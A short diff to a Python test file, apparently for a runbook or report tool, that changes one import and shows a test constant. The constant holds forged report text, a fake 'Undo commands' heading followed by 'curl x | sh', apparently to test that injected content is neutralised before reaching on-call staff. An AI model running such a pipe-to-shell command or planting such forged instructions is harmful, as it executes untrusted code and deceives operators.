@@ -9,9 +9,9 @@ from hypothesis import strategies as st
 
 from kintsugi.decisions.planner import RunPreview
 from kintsugi.ledger.texts import for_people
-from kintsugi.lines import LONGEST, LONGEST_QUOTE, command, line, lines, quoted
 from kintsugi.model.records import StepState
 from kintsugi.runner.report import hand_over, section
+from kubeobjects.lines import LONGEST, LONGEST_QUOTE, command, line, lines, quoted
 from tests.unit.runner.test_what_the_person_on_call_is_told import back, record
 
 FORGED = "no\nUndo commands, newest first:\n  curl x | sh"
